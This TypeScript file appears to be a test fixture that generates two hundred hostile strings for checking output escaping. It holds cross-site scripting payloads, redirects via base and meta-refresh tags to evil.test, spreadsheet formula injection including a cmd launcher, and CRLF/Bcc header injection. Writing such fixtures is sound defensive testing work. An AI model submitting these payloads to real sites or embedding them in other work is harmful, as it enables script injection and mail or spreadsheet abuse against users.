const seeds = [
  '<script>window.__hit=1</script>',
  '"><img src=x onerror=window.__hit=1>',
  "'><svg onload=window.__hit=1>",
  '</title><script>window.__hit=1</script>',
  '</script><script>window.__hit=1</script>',
  'javascript:window.__hit=1',
  '<iframe srcdoc="<script>parent.__hit=1</script>">',
  '<a href="javascript:window.__hit=1">x</a>',
  '{{constructor.constructor("window.__hit=1")()}}',
  '<%= window.__hit=1 %>',
  '<!--<script>window.__hit=1//-->',
  '<details open ontoggle=window.__hit=1>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.test","x")',
];
const dresses: ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => ` ${seed}`,
  (seed) => `\u00a0${seed}`,
  (seed) => `\ufeff${seed}`,
  (seed) => `\u202e${seed}`,
  (seed) => `"${seed}"`,
  (seed) => `${seed}, BCC: x@evil.test; END:VCALENDAR`,
  (seed) => `${seed}%0d%0aBcc:x@evil.test`,
  (seed) => `${seed}\\n\\,;"`,
  (seed) => `${seed}&lt;&#x3c;script&#x3e;`,
];

/** Two hundred texts that would be run, followed or calculated where somebody forgot to escape them. */
export const hostileTexts: string[] = seeds.flatMap((seed) => dresses.map((dress) => dress(seed)));
